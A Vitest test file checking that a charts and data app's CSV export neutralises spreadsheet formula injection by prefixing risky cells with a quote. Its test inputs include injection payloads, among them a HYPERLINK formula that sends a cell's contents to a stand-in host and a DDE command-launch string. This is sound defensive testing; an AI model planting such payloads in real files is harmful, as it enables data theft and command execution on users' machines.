import { describe, expect, it } from 'vitest';
import { csvCell, neutralise } from '../../../src/lib/charts/csv';
import { toCsv } from '../../../src/lib/charts/export';
import { toCsv as dataCsv } from '../../../src/lib/pipeline/bps-reference';
import { parseCsvRecords } from '../../../src/lib/pipeline/csv';

describe('CSV cells never carry a live spreadsheet formula (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"klik")', '"\'=HYPERLINK(""http://x.example/?""&A1,""klik"")"'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
    ['=1;2', '"\'=1;2"']
  ])('%j → %j', (input, expected) => expect(csvCell(input)).toBe(expected));

  it('plain numbers and ordinary text stay as they are', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('+1.5e3')).toBe('+1.5e3');
    expect(csvCell('-0.25')).toBe('-0.25');
    expect(csvCell('Kabupaten Malang')).toBe('Kabupaten Malang');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(9007199254740993n)).toBe('9007199254740993');
    expect(neutralise('x=1')).toBe('x=1');
  });

  it('a download (toCsv: charts, /sql, /data, /dampak) neutralises header and cells', () => {
    const csv = toCsv({
      columns: [
        { key: 'a', label: '=kolom' },
        { key: 'b', label: 'b' }
      ],
      rows: [{ a: '@SUM(1)', b: -3 }]
    });
    const [head, row] = parseCsvRecords(csv.replace(/^\ufeff/, ''), ',');
    expect(head).toEqual(["'=kolom", 'b']);
    expect(row).toEqual(["'@SUM(1)", '-3']);
  });

  it('the CLIs that write data/*.csv use the same cells', () => {
    const csv = dataCsv(['kode', 'sumber', 'nilai'], [{ kode: '3501', sumber: '=HYPERLINK("x")', nilai: '-1.5' }]);
    expect(parseCsvRecords(csv, ',')[1]).toEqual(['3501', '\'=HYPERLINK("x")', '-1.5']);
  });
});
